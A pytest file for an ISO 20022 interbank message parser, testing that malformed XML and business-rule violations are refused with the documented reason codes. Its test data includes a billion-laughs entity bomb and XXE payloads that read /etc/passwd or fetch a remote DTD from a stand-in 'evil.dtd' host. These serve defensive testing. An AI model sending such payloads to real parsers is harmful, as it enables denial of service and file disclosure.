"""Bad input, safely: every refusal is an Iso20022Error with the documented reason code,
and the pacs.002 RJCT that answers it validates."""

from __future__ import annotations

import dataclasses
import re

import pytest

from digisom.interbank.iso20022 import (
    MAX_INBOUND_MESSAGE_BYTES,
    NOT_PROVIDED,
    AccountStatement,
    Agent,
    CreditTransferOrder,
    Iso20022Error,
    MessageType,
    Notification,
    PaymentReturn,
    ReasonCode,
    StatusReport,
    TransactionStatus,
    build_camt053,
    build_camt054,
    build_pacs002,
    build_pacs004,
    build_pacs008,
    parse_inbound,
    rejection_for,
)
from tests.interbank.samples import COMMERCIAL_BANK, NOW
from tests.interbank.test_messages import assert_valid

PACS_008_NS = MessageType.PACS_008.namespace

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="{PACS_008_NS}"><FIToFICstmrCdtTrf>&lol9;</FIToFICstmrCdtTrf></Document>""".encode()

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="{PACS_008_NS}"><FIToFICstmrCdtTrf><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></FIToFICstmrCdtTrf></Document>
""".encode()

XXE_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<Document/>"""

PLAIN_DTD = f'<?xml version="1.0"?><!DOCTYPE Document><Document xmlns="{PACS_008_NS}"/>'.encode()


def refusal(xml: bytes) -> Iso20022Error:
    """The error parse_inbound raises, after checking that the RJCT answering it validates."""
    with pytest.raises(Iso20022Error) as caught:
        parse_inbound(xml)
    rejection = rejection_for(caught.value, xml, message_id="RTGS-RJCT-0001", created_at=NOW)
    assert_valid(rejection, MessageType.PACS_002)
    report = parse_inbound(rejection).body
    assert isinstance(report, StatusReport)
    assert report.status is TransactionStatus.REJECTED
    assert report.reason_code == caught.value.reason_code.value
    return caught.value


def mutate(order: CreditTransferOrder, old: str, new: str) -> bytes:
    xml = re.sub(r">\s+<", "><", build_pacs008(order).decode())  # no indentation between tags
    assert old in xml, old
    return xml.replace(old, new, 1).encode()


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        (b"", ReasonCode.INVALID_FILE_FORMAT),
        (b"not xml at all", ReasonCode.INVALID_FILE_FORMAT),
        (f'<Document xmlns="{PACS_008_NS}"><FIToFICstmrCdtTrf>'.encode(), ReasonCode.INVALID_FILE_FORMAT),
        (BILLION_LAUGHS, ReasonCode.INVALID_FILE_FORMAT),
        (XXE, ReasonCode.INVALID_FILE_FORMAT),
        (XXE_PARAMETER_ENTITY, ReasonCode.INVALID_FILE_FORMAT),
        (PLAIN_DTD, ReasonCode.INVALID_FILE_FORMAT),
        (b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"/>', ReasonCode.INVALID_FILE_FORMAT),
        (b"<Document/>", ReasonCode.INVALID_FILE_FORMAT),
        (f'<AppHdr xmlns="{PACS_008_NS}"/>'.encode(), ReasonCode.INVALID_FILE_FORMAT),
        (f'<Document xmlns="{PACS_008_NS}"/>'.encode(), ReasonCode.SYNTAX_ERROR),
    ],
    ids=[
        "empty",
        "not-xml",
        "truncated",
        "billion-laughs",
        "xxe",
        "xxe-parameter-entity",
        "dtd",
        "unknown-message-type",
        "no-namespace",
        "not-a-document",
        "empty-document",
    ],
)
def test_unreadable_input_is_refused(payload: bytes, code: ReasonCode) -> None:
    error = refusal(payload)
    assert error.reason_code is code


def test_unreadable_input_is_answered_with_not_provided() -> None:
    with pytest.raises(Iso20022Error) as caught:
        parse_inbound(BILLION_LAUGHS)
    report = parse_inbound(rejection_for(caught.value, BILLION_LAUGHS, message_id="R1", created_at=NOW)).body
    assert isinstance(report, StatusReport)
    assert report.original_message_id == NOT_PROVIDED
    assert report.original_message_name == NOT_PROVIDED
    assert report.original_end_to_end_id is None


def test_oversized_input_is_refused_before_parsing(credit_transfer: CreditTransferOrder) -> None:
    xml = build_pacs008(credit_transfer)
    padded = xml + b" " * (MAX_INBOUND_MESSAGE_BYTES - len(xml) + 1)
    error = refusal(padded)
    assert error.reason_code is ReasonCode.INVALID_FILE_FORMAT
    assert "exceeds" in error.detail
    parse_inbound(xml + b" " * (MAX_INBOUND_MESSAGE_BYTES - len(xml)))  # exactly at the limit is fine


def test_deep_nesting_is_refused() -> None:
    deep = f'<Document xmlns="{PACS_008_NS}">'.encode() + b"<a>" * 100 + b"</a>" * 100 + b"</Document>"
    assert refusal(deep).reason_code is ReasonCode.INVALID_FILE_FORMAT


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        (">1234567.89<", ">-1234567.89<", ReasonCode.INVALID_AMOUNT),
        (">1234567.89<", ">1234567.891<", ReasonCode.INVALID_AMOUNT),
        (">1234567.89<", ">1234567.890<", ReasonCode.INVALID_AMOUNT),
        (">1234567.89<", ">1234567.891234<", ReasonCode.INVALID_AMOUNT),
        (">1234567.89<", ">1e6<", ReasonCode.INVALID_AMOUNT),
        (">1234567.89<", ">0.00<", ReasonCode.ZERO_AMOUNT),
        ('Ccy="KGS"', 'Ccy="XAU"', ReasonCode.NOT_ALLOWED_CURRENCY),
        ('Ccy="KGS"', 'Ccy="kgs"', ReasonCode.NOT_ALLOWED_CURRENCY),
        ("<BICFI>DEMIKG22</BICFI>", "<BICFI>demi</BICFI>", ReasonCode.BANK_IDENTIFIER_INCORRECT),
        (
            "<Othr><Id>1180000000000001</Id></Othr>",
            "<IBAN>1180000000000001</IBAN>",
            ReasonCode.INCORRECT_ACCOUNT_NUMBER,
        ),
        (
            "<Othr><Id>1180000000000001</Id></Othr>",
            f"<Othr><Id>{'1' * 35}</Id></Othr>",
            ReasonCode.INCORRECT_ACCOUNT_NUMBER,
        ),
        (
            "<IntrBkSttlmDt>2026-11-23</IntrBkSttlmDt>",
            "<IntrBkSttlmDt>2026-13-01</IntrBkSttlmDt>",
            ReasonCode.INVALID_DATE,
        ),
        ("<IntrBkSttlmDt>2026-11-23</IntrBkSttlmDt>", "", ReasonCode.INVALID_DATE),
        ("<NbOfTxs>1</NbOfTxs>", "<NbOfTxs>2</NbOfTxs>", ReasonCode.INVALID_NUMBER_OF_TRANSACTIONS),
        ("<NbOfTxs>1</NbOfTxs>", "<NbOfTxs>1</NbOfTxs><CtrlSum>1.00</CtrlSum>", ReasonCode.INVALID_CONTROL_SUM),
        (
            "<NbOfTxs>1</NbOfTxs>",
            '<NbOfTxs>1</NbOfTxs><TtlIntrBkSttlmAmt Ccy="KGS">1.00</TtlIntrBkSttlmAmt>',
            ReasonCode.WRONG_AMOUNT,
        ),
        ("<ChrgBr>SLEV</ChrgBr>", "<ChrgBr>FREE</ChrgBr>", ReasonCode.SYNTAX_ERROR),
        ("<ChrgBr>SLEV</ChrgBr>", "", ReasonCode.SYNTAX_ERROR),
        ("<MsgId>COMMERCIAL-20261123-0001</MsgId>", f"<MsgId>{'M' * 36}</MsgId>", ReasonCode.SYNTAX_ERROR),
    ],
)
def test_schema_and_business_errors_get_their_codes(
    credit_transfer: CreditTransferOrder, old: str, new: str, code: ReasonCode
) -> None:
    assert refusal(mutate(credit_transfer, old, new)).reason_code is code


def test_two_transactions_in_one_message_are_refused(credit_transfer: CreditTransferOrder) -> None:
    xml = build_pacs008(credit_transfer).decode()
    start, end = xml.index("<CdtTrfTxInf>"), xml.index("</CdtTrfTxInf>") + len("</CdtTrfTxInf>")
    doubled = xml[:end] + xml[start:end] + xml[end:]
    doubled = doubled.replace("<NbOfTxs>1</NbOfTxs>", "<NbOfTxs>2</NbOfTxs>")
    assert refusal(doubled.encode()).reason_code is ReasonCode.INVALID_NUMBER_OF_TRANSACTIONS


@pytest.mark.parametrize("creditor_agent", [COMMERCIAL_BANK, Agent(bic="DEMIKG22"), Agent(bank_code="118001")])
def test_on_us_transfer_is_forbidden(credit_transfer: CreditTransferOrder, creditor_agent: Agent) -> None:
    assert credit_transfer.debtor_agent == COMMERCIAL_BANK
    on_us = dataclasses.replace(credit_transfer, creditor_agent=creditor_agent)
    assert refusal(build_pacs008(on_us)).reason_code is ReasonCode.TRANSACTION_FORBIDDEN


def test_duplicate_message_id_is_refused_and_answered_with_its_ids(credit_transfer: CreditTransferOrder) -> None:
    xml = build_pacs008(credit_transfer)
    first = parse_inbound(xml)
    with pytest.raises(Iso20022Error) as caught:
        parse_inbound(xml, seen_message_ids={first.body.message_id})
    assert caught.value.reason_code is ReasonCode.DUPLICATE_MESSAGE_ID
    rejection = rejection_for(caught.value, xml, message_id="RTGS-RJCT-0002", created_at=NOW)
    assert_valid(rejection, MessageType.PACS_002)
    report = parse_inbound(rejection).body
    assert isinstance(report, StatusReport)
    assert report.original_message_id == credit_transfer.message_id
    assert report.original_message_name == MessageType.PACS_008.value
    assert report.original_end_to_end_id == credit_transfer.end_to_end_id
    assert report.original_instruction_id == credit_transfer.instruction_id
    assert report.reason_code == "DU01"


def test_schema_invalid_message_keeps_its_references(credit_transfer: CreditTransferOrder) -> None:
    xml = mutate(credit_transfer, "<ChrgBr>SLEV</ChrgBr>", "")
    with pytest.raises(Iso20022Error) as caught:
        parse_inbound(xml)
    report = parse_inbound(rejection_for(caught.value, xml, message_id="R2", created_at=NOW)).body
    assert isinstance(report, StatusReport)
    assert report.original_message_id == credit_transfer.message_id
    assert report.reason_detail is not None
    assert "ChrgBr" in report.reason_detail


def test_a_string_is_not_bytes() -> None:
    with pytest.raises(Iso20022Error) as caught:
        parse_inbound("<Document/>")  # type: ignore[arg-type]
    assert caught.value.reason_code is ReasonCode.INVALID_FILE_FORMAT


def test_inbound_statement_whose_balances_do_not_add_up_is_refused(statement: AccountStatement) -> None:
    xml = build_camt053(statement).decode().replace(">300.00<", ">301.00<")
    assert refusal(xml.encode()).reason_code is ReasonCode.WRONG_AMOUNT


def test_inbound_notification_in_another_currency_than_its_account_is_refused(notification: Notification) -> None:
    xml = build_camt054(notification).decode().replace('<Amt Ccy="KGS">500.00', '<Amt Ccy="USD">500.00')
    assert refusal(xml.encode()).reason_code is ReasonCode.NOT_ALLOWED_CURRENCY


def test_inbound_return_with_a_bad_amount_is_refused(payment_return: PaymentReturn) -> None:
    xml = build_pacs004(payment_return).decode().replace(">1234567.89<", ">1234567.8912<")
    assert refusal(xml.encode()).reason_code is ReasonCode.INVALID_AMOUNT


def test_inbound_status_report_with_an_unknown_status_is_refused(status_report: StatusReport) -> None:
    xml = build_pacs002(status_report).decode().replace("<TxSts>PDNG</TxSts>", "<TxSts>ACWC</TxSts>")
    assert refusal(xml.encode()).reason_code is ReasonCode.SYNTAX_ERROR
